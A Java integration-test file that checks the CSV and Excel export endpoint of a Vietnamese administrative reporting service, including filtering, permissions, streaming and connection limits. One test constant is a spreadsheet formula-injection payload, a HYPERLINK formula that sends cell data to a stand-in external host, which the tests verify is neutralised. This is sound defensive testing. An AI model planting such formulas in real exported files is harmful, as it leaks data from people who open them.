@@ -1,0 +1,231 @@
+package vn.cchc.reporting;
+
+import static io.restassured.RestAssured.given;
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static java.util.concurrent.TimeUnit.SECONDS;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatIOException;
+import static org.awaitility.Awaitility.await;
+import static org.hamcrest.Matchers.equalTo;
+import static org.hamcrest.Matchers.startsWith;
+import static vn.cchc.reporting.ReportFixture.as;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse.BodyHandlers;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Map;
+import java.util.zip.ZipFile;
+
+import jakarta.inject.Inject;
+
+import org.dhatim.fastexcel.reader.Cell;
+import org.dhatim.fastexcel.reader.CellType;
+import org.dhatim.fastexcel.reader.ReadableWorkbook;
+import org.dhatim.fastexcel.reader.Row;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import com.fasterxml.jackson.databind.MappingIterator;
+import com.fasterxml.jackson.dataformat.csv.CsvMapper;
+import com.fasterxml.jackson.dataformat.csv.CsvSchema;
+
+import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.common.ResourceArg;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusTest;
+import vn.cchc.local.StackForTests;
+import vn.cchc.local.Tokens;
+
+@QuarkusTest
+@QuarkusTestResource(value = StackForTests.class, initArgs = @ResourceArg(name = "database", value = "reporting"))
+class ExportTest {
+
+    private static final String FORMULA = "=HYPERLINK(\"http://example.vn?x=\"&A1,\"Xem\"), đủ hồ sơ\r\nvà \"phụ lục\"";
+    private static final int MANY = 20_000;
+
+    private static final String UNDER_WAY = """
+            from pg_stat_activity where state = 'idle in transaction' and query like '%jsonb_extract_path_text%'""";
+
+    @Inject
+    ReportFixture reports;
+
+    @TestHTTPResource("/api/v1/exports/figures.csv?regime=BULK")
+    URI manyFigures;
+
+    /** So that what nobody reads does not disappear in the machine's own buffers. */
+    @BeforeAll
+    static void readersTakeLittleAtATime() {
+        System.setProperty("jdk.httpclient.receiveBufferSize", "65536");
+    }
+
+    @AfterEach
+    void onlyRealReportsStay() {
+        reports.sql("delete from figure where report in (select id from report where regime = 'BULK')");
+        reports.sql("delete from report where regime = 'BULK'");
+        reports.sql("delete from regime where code = 'BULK'");
+    }
+
+    @Test
+    void acceptedFiguresComeAsCsvWithoutAFormula() throws IOException {
+        String report = reports.draft("2011");
+        reports.accept(report, FORMULA);
+
+        byte[] file = as("viewer").get("/api/v1/exports/figures.csv?period=2011").then().statusCode(200)
+                .contentType("text/csv").header("Content-Disposition", equalTo("attachment; filename=\"figures.csv\""))
+                .extract()
+                .asByteArray();
+
+        assertThat(file).startsWith(0xEF, 0xBB, 0xBF);
+        assertThat(new String(file, UTF_8)).contains(",17,20,").doesNotContainPattern("[^\r]\n[^v]");
+        List<Map<String, String>> rows = csv(file);
+        assertThat(rows).extracting(row -> row.get("indicator")).containsExactly("CT90", "CT91");
+        assertThat(rows.get(0)).containsEntry("regime", "CCHC").containsEntry("period", "2011").containsEntry("unit", "TCCB")
+                .containsEntry("indicatorName", "Đếm được").containsEntry("numerator", "17").containsEntry("statement", "")
+                .containsEntry("report", report).containsEntry("acceptedBy", "reviewer");
+        assertThat(rows.get(1)).containsEntry("rating", "ACHIEVED").containsEntry("numerator", "").containsEntry("statement",
+                "'" + FORMULA);
+    }
+
+    @Test
+    void acceptedFiguresComeAsAWorkbookWithoutAFormula(@TempDir Path folder) throws IOException {
+        reports.accept(reports.draft("2010"), FORMULA);
+
+        byte[] file = as("auditor").get("/api/v1/exports/figures.xlsx?period=2010").then().statusCode(200)
+                .header("Content-Disposition", equalTo("attachment; filename=\"figures.xlsx\"")).extract().asByteArray();
+
+        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(file))) {
+            List<Row> rows = workbook.getFirstSheet().read();
+            List<String> titles = rows.get(0).stream().map(Cell::asString).toList();
+            Cell statement = rows.get(2).getCell(titles.indexOf("statement"));
+            assertThat(statement.getType()).isEqualTo(CellType.STRING);
+            assertThat(statement.getFormula()).isNull();
+            assertThat(statement.asString()).startsWith("=HYPERLINK(\"http://example.vn?x=\"&A1,\"Xem\"), đủ hồ sơ");
+            assertThat(rows.get(1).getCell(titles.indexOf("numerator")).asNumber()).isEqualByComparingTo("17");
+        }
+        Path workbook = Files.write(folder.resolve("figures.xlsx"), file);
+        assertThat(part(workbook, "xl/worksheets/sheet1.xml")).contains("t=\"inlineStr\"").doesNotContain("<f");
+        assertThat(part(workbook, "xl/styles.xml")).contains("\"@\"");
+    }
+
+    @Test
+    void onlyWhatIsAcceptedAndAskedForIsThere() throws IOException {
+        reports.draft("2029");
+        reports.accept(reports.draft("2028"), "Đủ hồ sơ");
+
+        assertThat(exported("period=2029")).isEmpty();
+        assertThat(exported("period=2028&unit=VP")).isEmpty();
+        assertThat(exported("period=2028&regime=X")).isEmpty();
+        assertThat(exported("period=2028&unit=TCCB&regime=CCHC&indicator=CT91")).hasSize(1);
+        as("viewer").get("/api/v1/exports/figures.csv?year=2028").then().statusCode(400).body("code",
+                equalTo("unknown-parameter"));
+        as("viewer").accept("application/json").get("/api/v1/exports/figures.csv").then().statusCode(406)
+                .contentType(startsWith("application/problem+json"));
+        given().auth().oauth2(Tokens.with("surveyor", Map.of("roles", List.of("surveyor"))))
+                .get("/api/v1/exports/figures.csv").then().statusCode(403);
+    }
+
+    @Test
+    void aFileIsReadFromTheDatabaseWhileItIsSent() throws IOException, InterruptedException {
+        manyFiguresAreAccepted();
+
+        try (InputStream file = open("csv")) {
+            var whole = new ByteArrayOutputStream();
+            whole.write(file.readNBytes(1000));
+
+            await().atMost(10, SECONDS).until(() -> exportsUnderWay() == 1);
+            file.transferTo(whole);
+            assertThat(csv(whole.toByteArray())).hasSize(MANY);
+        }
+        assertThat(exportsUnderWay()).isZero();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = { "csv", "xlsx" })
+    void aFileThatCannotBeReadToItsEndIsBrokenOff(String format) throws IOException, InterruptedException {
+        manyFiguresAreAccepted();
+
+        try (InputStream file = open(format)) {
+            file.readNBytes(1000);
+            await().atMost(10, SECONDS).until(() -> exportsUnderWay() == 1);
+            reports.sql("do $$ begin perform pg_terminate_backend(pid) %s; end $$".formatted(UNDER_WAY));
+
+            assertThatIOException().isThrownBy(file::readAllBytes);
+        }
+        as("viewer").get("/api/v1/exports/figures.csv?regime=X").then().statusCode(200);
+    }
+
+    @Test
+    void slowReadersDoNotTakeEveryConnection() throws IOException, InterruptedException {
+        manyFiguresAreAccepted();
+
+        try (var a = open("csv"); var b = open("csv"); var c = open("csv"); var d = open("csv"); var e = open("csv")) {
+            for (InputStream file : Arrays.asList(a, b, c, d, e)) {
+                file.readNBytes(1000);
+            }
+            await().atMost(10, SECONDS).until(() -> exportsUnderWay() == 5);
+
+            as("viewer").get("/api/v1/exports/figures.csv").then().statusCode(503).header("Retry-After", "5")
+                    .header("Content-Disposition", (String) null).contentType("application/problem+json");
+            as("viewer").get("/api/v1/reports").then().statusCode(200);
+        }
+    }
+
+    private long exportsUnderWay() {
+        return reports.number("select count(*) " + UNDER_WAY);
+    }
+
+    private void manyFiguresAreAccepted() {
+        reports.tellIndicators();
+        reports.sql("""
+                insert into regime select 'BULK', name, name_en, legal_basis, kind, frequencies, unit_deadline_day,
+                  department_deadline_day, province_deadline_day from regime where code = 'CCHC'""");
+        reports.sql(
+                """
+                        insert into report (id, regime, period, unit, state, version, created_by, created_at, updated_at, accepted_at, lock)
+                        select uuidv7(), 'BULK', n, 'TCCB', 'ACCEPTED', 1, 'x', now(), now(), now(), 0 from generate_series(1, %d) n"""
+                        .formatted(MANY));
+        // Texts that do not compress, so that no buffer on the way takes the whole file.
+        reports.sql(
+                """
+                        insert into figure (report, indicator, rating, statement, entered_by, entered_at)
+                        select id, 'CT91', 'ACHIEVED', (select string_agg(md5(id::text || n), '') from generate_series(1, 30) n), 'x', now()
+                        from report where regime = 'BULK'""");
+    }
+
+    private InputStream open(String format) throws IOException, InterruptedException {
+        var uri = URI.create(manyFigures.toString().replace(".csv", "." + format));
+        var request = HttpRequest.newBuilder(uri).header("Authorization", "Bearer " + Tokens.of("viewer")).build();
+        return HttpClient.newHttpClient().send(request, BodyHandlers.ofInputStream()).body();
+    }
+
+    private static List<Map<String, String>> exported(String query) throws IOException {
+        return csv(as("viewer").get("/api/v1/exports/figures.csv?" + query).then().statusCode(200).extract().asByteArray());
+    }
+
+    private static String part(Path workbook, String name) throws IOException {
+        try (var zip = new ZipFile(workbook.toFile())) {
+            return new String(zip.getInputStream(zip.getEntry(name)).readAllBytes(), UTF_8);
+        }
+    }
+
+    private static List<Map<String, String>> csv(byte[] file) throws IOException {
+        String text = new String(file, UTF_8).replace("\ufeff", "");
+        try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader()).readValues(text)) {
+            return rows.readAll();
+        }
+    }
+}
